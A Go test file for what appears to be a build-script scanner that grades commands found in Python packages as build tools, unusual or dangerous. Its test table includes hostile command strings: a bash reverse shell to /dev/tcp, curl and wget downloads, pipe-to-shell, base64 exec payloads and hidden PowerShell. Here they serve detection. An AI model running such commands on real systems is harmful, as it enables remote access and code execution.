package policies

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wheelscope/wheelscope/engine/rule"
)

func TestGrade(t *testing.T) {
	names := map[int]string{buildTool: "build tool", computed: "computed", unusual: "unusual", dangerous: "dangerous"}
	for command, want := range map[string]int{
		"git describe --tags":           buildTool,
		"/usr/bin/gcc -v":               buildTool,
		"gcc-12 -v":                     buildTool,
		"clang++ --version":             buildTool,
		"sys.executable setup.py sdist": buildTool,
		"python setup.py build_ext":     buildTool,
		"python3.11 -m cython a.pyx":    buildTool,
		"twine upload dist/*":           buildTool,
		`"C:\Program`:                   unusual,
		"cmake.exe .":                   buildTool,
		"":                              computed,
		"…":                             computed,
		"… -c x; y":                     computed,
		"… -c import base64; exec(base64.b64decode('AA'))": dangerous,
		"… libffi":                              computed,
		"pkg-config… --cflags …":                buildTool,
		"llvm-… -xc - -o /dev/null":             buildTool,
		"CORE_ONLY=yes bash ./make.sh":          buildTool,
		"bash /tmp/make.sh":                     unusual,
		"bash ../make.sh":                       unusual,
		"sh -c make all":                        buildTool,
		"sh -c curl -o a https://example.com/a": dangerous,
		"cd … ; git pull":                       buildTool,
		"make && frobnicate":                    unusual,
		"make; curl -O https://example.com/a":   dangerous,
		"sys.executable -c print('a', …)":       unusual,
		"sys.executable -c import socket; s":    unusual,
		"frobnicate":                            unusual,
		"sys.executable -c import numpy; print(numpy.get_include())": buildTool,
		"curl -s https://example.com/a":                              dangerous,
		"wget https://example.com/a":                                 dangerous,
		"cat a | sh":                                                 dangerous,
		"echo x|bash":                                                dangerous,
		"powershell -EncodedCommand AAAA":                            dangerous,
		"powershell.exe -w hidden -c x":                              dangerous,
		"/usr/bin/curl x":                                            dangerous,
		"bash -i >& /dev/tcp/192.0.2.1/1 0>&1":                       dangerous,
		"sys.executable -c exec(__import__('base64'))":               dangerous,
		"python -c import urllib.request":                            dangerous,
		"nohup ./a &":                                                dangerous,
		"git clone https://example.com/a | sh":                       dangerous,
		"make VERSION=1 CC=gcc":                                      buildTool,
		"llvm-config --version":                                      buildTool,
		"sudo apt-get install libxml2":                               dangerous,
		"pkg-config --exists zlib && echo yes":                       buildTool,
		"…/conftest":                                                 computed,
		"…/bin/protoc a":                                             buildTool,
	} {
		require.Equal(t, names[want], names[grade(&rule.Finding{Value: command})], command)
	}
	require.Equal(t, buildTool, grade(&rule.Finding{Note: "process pool"}))
	require.Equal(t, computed, grade(&rule.Finding{Note: "through a shell"}))
}

func TestSentences(t *testing.T) {
	require.Equal(t, "1 file", count(1, "file"))
	require.Equal(t, "2 files", count(2, "file"))
	require.Equal(t, "3 known vulnerabilities", count(3, "known vulnerability"))
	require.Equal(t, "0 URLs", count(0, "URL"))
	require.Equal(t, "", list(nil))
	require.Equal(t, "a", list([]string{"a"}))
	require.Equal(t, "a and b", list([]string{"a", "b"}))
	require.Equal(t, "a, b, c and d", list([]string{"a", "b", "c", "d"}))
	require.Equal(t, "a, b, c and 2 more", list([]string{"a", "b", "c", "d", "e"}))
	require.Equal(t, "a b…", cut("a\n  b cd", 4))
	require.Equal(t, "ä…", cut("ää", 3))
	require.Equal(t, ".", others(1))
	require.Equal(t, ", and so does 1 more place.", others(2))
	require.Equal(t, ", and so do 2 more places.", others(3))
}
